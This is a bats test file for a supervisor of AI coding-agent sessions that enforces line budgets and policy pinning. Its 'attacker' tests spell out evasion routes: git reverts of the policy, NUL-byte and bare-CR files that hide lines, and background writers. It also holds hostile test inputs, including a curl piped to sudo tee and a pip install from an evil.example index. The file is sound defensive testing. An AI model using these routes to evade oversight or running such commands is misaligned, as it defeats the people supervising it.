	TZ=UTC printf -v ended '%(%Y-%m-%dT%H:%M:%S.000Z)T' $((now - 120))
	[ "${started%%T*}" = "$(date -u -d "@$((now + 300))" +%F)" ] || skip "too close to midnight UTC for a same-day fixture"
	mkdir -p "$dir"
	for ((t = 0; t < 300; t++)); do
		TZ=UTC printf -v id '%(%Y%m%d-%H%M%S)T-same' $((now + t))
		printf '{"v":1,"id":"%s","task":"old","status":"ended","started_at":"%s","ended_at":"%s","last_activity":"%s","limits":{},"counters":{"loc":7},"day_stopped":false}\n' \
			"$id" "$started" "$ended" "$ended" >"$dir/$id.json"
	done
	start same
	[ "$(date +%s)" -lt $((now + 300)) ]
	[[ "$GUARD_SESSION" == *-same-2 ]]
	[ "$(ls "$dir" | grep -c '\.json$')" = 301 ]
	for f in "$dir"/*-same.json; do [ "$(jq -r .counters.loc "$f")" = 7 ]; done
}

@test "start cuts the branch from the detected base: master when there is no main, init.defaultBranch, a trusted branch.base" {
	git branch -m main master
	run --separate-stderr guard-session start --task from-master
	[ "$status" -eq 0 ]
	[ "$(jq -r .base_branch "$(state_dir)"/*-from-master.json)" = master ]
	[ "$(git merge-base HEAD master)" = "$(git rev-parse master)" ]
	git checkout -q master
	guard-session end --id "$(jq -r .id "$(state_dir)"/*-from-master.json)" >/dev/null 2>&1 || true
	# no branch to start from at all: refused, naming the candidates, nothing saved as running
	git branch -m master trunk
	git config init.defaultBranch nope
	run --separate-stderr guard-session start --task nowhere
	[ "$status" -ne 0 ]
	[ -z "$(ls "$(state_dir)"/*-nowhere.json 2>/dev/null)" ] ||
		[ "$(jq -r .status "$(state_dir)"/*-nowhere.json)" != running ]
	# a trusted layer names it
	mkdir -p "$HOME/.config/guard"
	printf 'version: 1\nbranch:\n  base: trunk\nsession:\n  max_sessions_per_day: 9\n  cooldown: 0s\n' >"$HOME/.config/guard/policy.yaml"
	chmod 600 "$HOME/.config/guard/policy.yaml"
	run --separate-stderr guard-session start --task from-trunk
	[ "$status" -eq 0 ]
	[ "$(jq -r .base_branch "$(state_dir)"/*-from-trunk.json)" = trunk ]
}

# A supervisor a test left running (it failed half-way) is stopped with its agent.
teardown() {
	if [ -n "${SUPERVISOR:-}" ]; then
		kill -TERM "$SUPERVISOR" 2>/dev/null || true
		wait "$SUPERVISOR" 2>/dev/null || true
	fi
}

# The supervisor's full check only once an hour (a trusted layer's session.poll_interval):
# a breach it catches before that was seen through inotify.
hour_poll() {
	sed 's/^session:$/session:\n  poll_interval: 1h/' "$REPO_ROOT/policy/nightbuilder.yaml" >"$BATS_TEST_TMPDIR/nb.yaml"
	export GUARD_NIGHTBUILDER_POLICY=$BATS_TEST_TMPDIR/nb.yaml
}

# An agent that leaves a background writer behind: it waits for the supervisor's watch
# (the session.watch record), then plain sh writes $2 lines into $1, and the agent idles.
writer_agent() {
	cat >agent.sh <<A
#!/bin/sh
until grep -qs '"session.watch"' ".ai/sessions/\$GUARD_SESSION.log.jsonl"; do sleep 0.05; done
( $3 mkdir -p "\$(dirname '$1')"; i=0; while [ \$i -lt $2 ]; do echo "int x\$i = \$i;" >>'$1'; i=\$((i+1)); done; $4 ) &
exec sleep 600
A
	chmod +x agent.sh && echo agent.sh >>.git/info/exclude
}

# watch_record TASK: the session's session.watch record(s)
watch_record() {
	local id
	id=$(basename "$(ls "$(state_dir)"/*-"$1".json)" .json)
	jq -c 'select(.event == "session.watch")' ".ai/sessions/$id.log.jsonl"
}

@test "run: a background writer's 1,200 lines in new nested folders end the session through inotify (full check an hour away)" {
	hour_poll
	writer_agent src/deep/er/gen.c 1200
	run timeout 120 guard-session run --task w1 -- ./agent.sh
	[ "$status" -eq 10 ]
	[ "$(ending_of w1)" = '{"kind":"breach","limit":"loc"}' ]
	rec=$(watch_record w1)
	[ "$(jq -r .mode <<<"$rec")" = inotify ]
	[ "$(jq -r .poll_interval <<<"$rec")" = 3600 ]
}

@test "run: a folder written outside the tree and moved in is seen too" {
	hour_poll
	out=$BATS_TEST_TMPDIR/outside
	writer_agent "$out/pkg/big.c" 1200 "" "mv '$out/pkg' src/pkg"
	run timeout 120 guard-session run --task w2 -- ./agent.sh
	[ "$status" -eq 10 ]
	[[ "$(ending_of w2)" == *'"limit":"loc"'* ]]
	[ -f src/pkg/big.c ]
}

@test "run: what git ignores and guard's own .ai/ are not watched; a breach elsewhere still is" {
	hour_poll
	echo 'build/' >.gitignore && git add .gitignore && git commit -qm ignore
	mkdir -p build/out
	writer_agent build/out/gen.c 1500 "" "echo 'int y;' >src/after.c"
	guard-session run --task w3 -- ./agent.sh 3>&- &
	sup=$!
	SUPERVISOR=$sup
	wait_running w3
	wait_for_line .ai/sessions/"$(basename "$(ls "$(state_dir)"/*-w3.json)" .json)".log.jsonl session.watch
	# the ignored lines never breach, whatever their count; the session goes on
	wait_for "the writer to finish" sh -c 'grep -qs "int y" src/after.c'
	rec=$(watch_record w3)
	[ "$(jq -r .folders <<<"$rec")" -ge 2 ]     # the root and src/, not build/ nor .git
	id=$(basename "$(ls "$(state_dir)"/*-w3.json)" .json)
	# measured on the event of src/after.c: its one line, none of build/'s 1,500
	wait_for "a measurement with the new file" sh -c "jq -e '.counters.loc == 1' '$(state_dir)/$id.json' >/dev/null"
	[ "$(jq -r .status "$(state_dir)/$id.json")" = running ]
	kill -TERM "$sup"
	wait "$sup" || true
}

@test "run: past the inotify watch limit the supervisor polls, says so in the session log, and still ends a breach" {
	inject_so=$REPO_ROOT/build/inject.so
	[ "${GUARD_PASS:-plain}" = san ] && inject_so=$REPO_ROOT/build/san/inject.so
	[ -f "$inject_so" ] || { echo "# $inject_so is missing: run make unit" >&2; false; }
	hour_poll
	writer_agent src/gen.c 1200
	# the second folder's watch fails as at fs.inotify.max_user_watches
	run timeout 120 env ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0" \
		LD_PRELOAD=$inject_so GUARD_INJECT='inotify:2+' guard-session run --task w4 -- ./agent.sh
	[ "$status" -eq 10 ]
	[[ "$output" == *"polling the work tree every 10s: the inotify watch limit (fs.inotify.max_user_watches) was reached"* ]]
	rec=$(watch_record w4)
	[ "$(jq -r .mode <<<"$rec")" = poll ]
	[ "$(jq -r .poll_interval <<<"$rec")" = 10 ]
	[[ "$(jq -r .reason <<<"$rec")" == *"watch limit"* ]]
	[[ "$(ending_of w4)" == *'"limit":"loc"'* ]]
}

@test "run: GUARD_SESSION_WATCH=poll polls (recorded); poll_interval is a duration the project layer may only shorten" {
	sed 's/max_sessions_per_day: 3 /max_sessions_per_day: 9 /' "$REPO_ROOT/policy/nightbuilder.yaml" >"$BATS_TEST_TMPDIR/nb9.yaml"
	export GUARD_NIGHTBUILDER_POLICY=$BATS_TEST_TMPDIR/nb9.yaml
	GUARD_SESSION_WATCH=poll run guard-session run --task w5 -- true
	[ "$status" -eq 0 ]
	[ "$(watch_record w5 | jq -r '.mode + " " + .reason')" = "poll GUARD_SESSION_WATCH=poll" ]
	cooled "$(state_dir)"/*-w5.json
	run guard-session run --task w6 -- true
	[ "$(watch_record w6 | jq -r '.mode + " " + (.poll_interval|tostring)')" = "inotify 60" ]
	sed 's/^session:$/session:\n  poll_interval: 1h/' "$BATS_TEST_TMPDIR/nb9.yaml" >"$BATS_TEST_TMPDIR/nb.yaml"
	export GUARD_NIGHTBUILDER_POLICY=$BATS_TEST_TMPDIR/nb.yaml
	mkdir -p .ai && printf 'version: 1\nsession:\n  poll_interval: 5m\n' >.ai/policy.yaml
	cooled "$(state_dir)"/*-w6.json
	start p1
	[ "$(jq -r .limits.poll_interval "$STATE")" = 300 ]
	guard-session end >/dev/null
	printf 'version: 1\nsession:\n  poll_interval: 2h\n' >.ai/policy.yaml
	cooled "$STATE"
	start p2
	[ "$(jq -r .limits.poll_interval "$STATE")" = 3600 ]
	guard-session end >/dev/null
	printf 'version: 1\nsession:\n  poll_interval: often\n' >.ai/policy.yaml
	run guard-policy --validate .ai/policy.yaml
	[ "$status" -eq 7 ]
	[[ "$output" == *"poll_interval"* ]]
}

@test "the policy a session started under: a person's edit of it mid-session stops the next call, naming both revisions" {
	small_limits
	git add -A && git commit -qm limits
	git checkout -q -b other
	start pin
	hook pre Bash '{"command":"ls"}' u1
	not_stopped
	sed -i 's/max_loc: 5/max_loc: 500/' .ai/policy.yaml
	hook pre Bash '{"command":"ls"}' u2
	stopped
	[[ "$output" == *"guard's policy changed since the session started ($(field .policy_rev), now sha256:"* ]]
	# put back, the same policy runs again
	sed -i 's/max_loc: 500/max_loc: 5/' .ai/policy.yaml
	hook pre Bash '{"command":"ls"}' u3
	not_stopped
}

@test "attacker: git puts an older policy in the tree without a write guard sees (revert, a plumbing commit merged --ff-only): the next call is stopped" {
	# the project's policy, loosened first and tightened after
	small_limits
	sed -i 's/max_loc: 5/max_loc: 500/' .ai/policy.yaml
	git add -A && git commit -qm loose
	sed -i 's/max_loc: 500/max_loc: 5/' .ai/policy.yaml
	git commit -qam tight
	git checkout -q -b other
	start pin2
	# a revert of the tightening: a git command, no write of .ai/ in its words
	git revert --no-edit HEAD >/dev/null
	grep -q 'max_loc: 500' .ai/policy.yaml
	hook pre Bash '{"command":"ls"}' u1
	stopped
	[[ "$output" == *"guard's policy changed since the session started"* ]]
	git reset -q --hard HEAD~1
	hook pre Bash '{"command":"ls"}' u2
	not_stopped
	# a commit made with plumbing from the loose tree, taken in by a fast-forward
	c=$(git commit-tree "HEAD~1^{tree}" -p HEAD -m x)
	git merge -q --ff-only "$c"
	grep -q 'max_loc: 500' .ai/policy.yaml
	hook pre Write '{"file_path":"src/x.c","content":"x"}' u3
	stopped
	[[ "$output" == *"guard's policy changed since the session started"* ]]
}

@test "attack8 I3: a NUL byte does not hide a file's lines from the LOC budget (session check, guard-git check, the PR body); a picture's bytes count next to nothing" {
	start bin
	base=$(field .base)
	# the attack: one NUL in the first line makes the file binary to git (numstat "-"), and gcc still compiles it
	{ printf '/* \0 */\n'; seq -f 'int v%g = 1;' 40; } >src/big.c
	# NULs planted in every line hide nothing either
	python3 -c 'import sys; sys.stdout.buffer.write(b"".join(b"int w%d = 2; /*\0*/\n" % i for i in range(30)))' >src/each.c
	# near-random bytes (a compressed picture), made the same every run
	python3 -c 'import random,sys; r=random.Random(7); sys.stdout.buffer.write(bytes(r.randrange(256) for _ in range(65536)))' >src/img.bin
	run --separate-stderr guard-session check --json
	j=$output
	[ "$(jq -r '.changes[] | select(.path=="src/big.c") | .binary' <<<"$j")" = true ]
	[ "$(jq -r '.changes[] | select(.path=="src/big.c") | .text_added' <<<"$j")" = 41 ]
	[ "$(jq -r '.changes[] | select(.path=="src/each.c") | .text_added' <<<"$j")" = 30 ]
	img=$(jq -r '.changes[] | select(.path=="src/img.bin") | .text_added // 0' <<<"$j")
	[ "$img" -le 2 ]
	[ "$(jq -r .counters.loc <<<"$j")" = $((71 + img)) ]
	# committed: guard-git check of the range counts them too
	git add -A && git commit -qm hidden
	run --separate-stderr guard-git check --base "$base" --head HEAD --json
	[ "$(jq -r '.changes[] | select(.path=="src/big.c") | .added' <<<"$output")" = -1 ]
	[ "$(jq -r '.changes[] | select(.path=="src/big.c") | .text_added' <<<"$output")" = 41 ]
	[ "$(jq -r .loc.added <<<"$output")" = $((71 + img)) ]
	# an edit of the binary file counts the text lines it adds, against what the range had
	{ printf '/* \0 */\n'; seq -f 'int v%g = 1;' 45; } >src/big.c
	git commit -qam more
	run --separate-stderr guard-git check --base HEAD~1 --head HEAD --json
	[ "$(jq -r '.changes[] | select(.path=="src/big.c") | .text_added' <<<"$output")" = 5 ]
	[ "$(jq -r .loc.added <<<"$output")" = 5 ]
	run --separate-stderr guard-session check --json
	[ "$(jq -r '.changes[] | select(.path=="src/big.c") | .text_added' <<<"$output")" = 46 ]
	# the PR body says they were counted
	run guard-session end
	grep -q 'binary, 46 text lines' .ai/sessions/*.pr.md
}

@test "attack8 I22/I1c: a file name cannot open an HTML comment in the PR body, nor an escape rewrite the briefing" {
	start names
	printf 'x\n' >$'src/notes\n<!--'
	printf 'y\n' >'src/a|b`c.txt'
	git add -A && git commit -qm names
	run guard-session end
	body=$(cat .ai/sessions/*.pr.md)
	refute grep -qx '<!--' <<<"$body"
	[[ "$body" == *"| A | \`\$'src/notes\\n<!--'\` | 1 | 0 |"* ]]
	[[ "$body" == *'| A | `` src/a\|b`c.txt `` | 1 | 0 |'* ]]
	# the briefing shows the agent's words, never obeys them
	git config user.email $'x\e[8m@example.com'
	guard-approve request --command 'curl -s http://example.com/c | sudo tee /etc/motd' >/dev/null 2>&1
	git config --unset user.email
	run guard-session briefing
	[ "$status" -eq 0 ]
	refute grep -q $'\e' <<<"$output"
	[[ "$output" == *'x?[8m@example.com'* ]]
}

@test "attack8 I13: lines ended by a bare CR count as lines (git counts a CR-only file as one); CRLF files count as git does" {
	start cr
	base=$(field .base)
	seq -f 'int c%g = 1;' 50 | tr '\n' '\r' >src/cr.c
	printf 'a\r\nb\r\n' >src/crlf.c
	run --separate-stderr guard-session check --json
	[ "$(jq -r '.changes[] | select(.path=="src/cr.c") | .added' <<<"$output")" = 50 ]
	[ "$(jq -r '.changes[] | select(.path=="src/crlf.c") | .added' <<<"$output")" = 2 ]
	git add -A && git commit -qm cr
	run --separate-stderr guard-git check --base "$base" --head HEAD --json
	[ "$(jq -r '.changes[] | select(.path=="src/cr.c") | .added' <<<"$output")" = 50 ]
	[ "$(jq -r .loc.added <<<"$output")" = 52 ]
	# an edit that adds CR-ended lines to a tracked file counts them
	printf 'x\ry\rz\r' >>src/cr.c
	run --separate-stderr guard-session check --json
	[ "$(jq -r '.changes[] | select(.path=="src/cr.c") | .added' <<<"$output")" = 53 ]
}

@test "attack9 J21: a binary file's bare-CR lines and lines of code with junk after them count; a picture's and an object file's bytes count next to nothing" {
	start crbin
	base=$(field .base)
	# one NUL makes the file binary to git; its lines end with a bare CR, which gcc takes as line ends
	python3 -c 'import sys; sys.stdout.buffer.write(b"/*\0*/\r" + b"".join(b"int f%d(void) { return %d; }\r" % (i, i) for i in range(60)))' >src/cr.c
	# every line of code followed by junk bytes in a comment: less than four fifths text
	python3 -c 'import sys; sys.stdout.buffer.write(b"/*\0*/\n" + b"".join(b"int g%d(void) { return %d; } /*" % (i, i) + b"\xff" * 40 + b"*/\n" for i in range(40)))' >src/junk.c
	# benign twins: near-random bytes with bare CRs (a compressed picture) and a compiled object
	python3 -c 'import random,sys; r=random.Random(11); sys.stdout.buffer.write(b"\x89PNG\r\n\x1a\n\0" + bytes(r.randrange(256) for _ in range(200000)))' >src/pic.png
	python3 -c 'print("".join("int h%d(int x) { return x * %d + 1; }\n" % (i, i) for i in range(200)))' >/tmp/j21-$$.c
	cc -O1 -c -o src/obj.o /tmp/j21-$$.c
	rm -f /tmp/j21-$$.c
	run --separate-stderr guard-session check --json
	j=$output
	[ "$(jq -r '.changes[] | select(.path=="src/cr.c") | .text_added' <<<"$j")" = 61 ]
	[ "$(jq -r '.changes[] | select(.path=="src/junk.c") | .text_added' <<<"$j")" = 41 ]
	pic=$(jq -r '.changes[] | select(.path=="src/pic.png") | .text_added // 0' <<<"$j")
	obj=$(jq -r '.changes[] | select(.path=="src/obj.o") | .text_added // 0' <<<"$j")
	[ "$pic" -le 12 ]
	[ "$obj" -le 10 ]
	[ "$(jq -r .counters.loc <<<"$j")" = $((102 + pic + obj)) ]
	# committed: guard-git check of the range (pre-push's count) sees them too
	git add -A && git commit -qm hidden
	run --separate-stderr guard-git check --base "$base" --head HEAD --json
	[ "$(jq -r '.changes[] | select(.path=="src/cr.c") | .text_added' <<<"$output")" = 61 ]
	[ "$(jq -r '.changes[] | select(.path=="src/junk.c") | .text_added' <<<"$output")" = 41 ]
	[ "$(jq -r .loc.added <<<"$output")" = $((102 + pic + obj)) ]
}

@test "package vetting: pip install -r of the project's own requirements.txt from its root is allowed; another list, a cd, a computed file or an index do not pass (benign11)" {
	printf 'requests==2.31.0\n' >requirements.txt
	printf 'evilpkg\n' >extra.txt
	mkdir -p sub
	git add -A && git commit -qm reqs
	start
	local c n=0
	for c in 'pip install -r requirements.txt' 'python3 -m pip install --user -r requirements.txt' \
		'pip install --requirement=./requirements.txt -t build/lib' 'pip3 install -rrequirements.txt'; do
		hook pre Bash "$(jq -cn --arg c "$c" '{command:$c}')" "a$((n += 1))"
		[ "$(decision_of)" = allow ] || { echo "denied: $c: $output"; return 1; }
	done
	for c in 'pip install -r extra.txt' 'cd sub && pip install -r requirements.txt' 'pip install -r "$F"' \
		'pip install -r requirements.txt -i https://evil.example/simple' 'pip install -r requirements.txt evilpkg' \
		'pip install -c requirements.txt evilpkg'; do
		hook pre Bash "$(jq -cn --arg c "$c" '{command:$c}')" "d$((n += 1))"
		[ "$(decision_of)" = deny ] || { echo "allowed: $c: $output"; return 1; }
	done
}
